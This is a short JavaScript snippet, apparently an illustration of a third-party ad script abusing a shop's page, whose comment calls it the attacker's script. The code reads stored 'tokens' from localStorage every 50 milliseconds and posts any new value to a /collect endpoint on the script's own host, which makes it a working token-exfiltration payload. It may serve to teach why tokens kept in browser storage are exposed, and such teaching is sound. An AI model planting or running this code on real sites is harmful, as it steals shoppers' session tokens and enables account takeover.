// The attacker's script, which the shop runs as an ad. So it is the shop to the browser, and reads what the shop keeps.

const home = new URL(document.currentScript.src).origin;
let known = null;

function look() {
  const tokens = localStorage.getItem('tokens');
  if (tokens === known) return;
  known = tokens;
  fetch(`${home}/collect`, { method: 'POST', body: tokens });
}

look();
setInterval(look, 50);
